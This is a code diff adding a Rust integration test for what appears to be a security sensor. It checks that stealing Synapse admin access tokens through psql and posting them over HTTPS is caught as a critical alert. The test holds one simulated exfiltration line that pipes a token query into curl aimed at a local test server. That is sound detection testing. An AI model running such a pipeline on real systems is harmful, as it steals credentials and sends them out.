@@ -12,6 +12,7 @@ use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
 use anyhow::{ensure, Context, Result};
+use integration_tests::remote_server::{certificate, Server};
 use integration_tests::synapse::{self, Database, Postgres, SharedLab, SynapseLab};
 use integration_tests::{actor_exe, alert, Lab, ALERT_TIMEOUT};
 use serde_json::Value;
@@ -146,6 +147,39 @@ fn synapse_postgres_4_token_theft_over_loopback_tcp_is_an_alert() -> Result<()> 
     let world = shared()?;
     // The same server answers on 127.0.0.1: its replies there are followed as well.
     expect_token_theft_through(&world, "127.0.0.1", &format!("{ADMIN_TOKEN_SQL} OFFSET 0"))
+}
+
+/// The thief sends the token over HTTPS: the token itself is seen leaving (told by its
+/// checksum, without the agent ever reading the token tables), and the data-flow alert is
+/// confirmed at critical severity.
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_postgres_6_a_token_stolen_through_psql_and_sent_over_https_is_confirmed() -> Result<()> {
+    let world = shared()?;
+    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
+    let server = Server::start(&world.lab, Some(&certificate(world.lab.dir())?))?;
+    let dest = server.addr;
+    let token = world.login_admin()?.access_token().to_owned();
+    let script = format!(
+        "{} | curl -sSk -o /dev/null --max-time 10 -H 'Expect:' --data-binary @- https://{dest}/",
+        postgres.su_psql(ADMIN_TOKEN_SQL)
+    );
+
+    let sh = shell(&script)?;
+    server.received()?;
+
+    let confirmed = world.sensor.expect(
+        |line| alert::is_confirmed(line) && alert::ancestry_pids(line).contains(&sh),
+        ALERT_TIMEOUT,
+    )?;
+    ensure!(alert::severity(&confirmed) == Some(99), "{confirmed:#}");
+    ensure!(alert::content_value(&confirmed) == Some("access token (syt_ checksum)"), "{confirmed:#}");
+    ensure!(synapse::text(&confirmed, "/vigie/secret/name") == Some(STORE), "{confirmed:#}");
+    ensure!(alert::destination(&confirmed) == Some(dest), "{confirmed:#}");
+    let everything =
+        world.sensor.lines().iter().map(Value::to_string).collect::<String>() + &world.sensor.stderr();
+    ensure!(!everything.contains(&token), "the token is in the sensor's output");
+    Ok(())
 }
 
 #[test]
